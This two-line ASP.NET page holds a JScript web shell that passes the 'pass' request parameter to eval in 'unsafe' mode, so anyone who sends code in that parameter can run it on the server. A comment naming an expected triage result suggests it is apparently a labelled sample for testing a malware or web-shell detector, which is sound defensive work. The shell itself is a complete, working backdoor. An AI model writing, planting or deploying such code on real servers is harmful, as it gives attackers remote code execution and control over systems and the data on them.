<%-- triage-expect: triage_asp_eval_request --%>
<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>
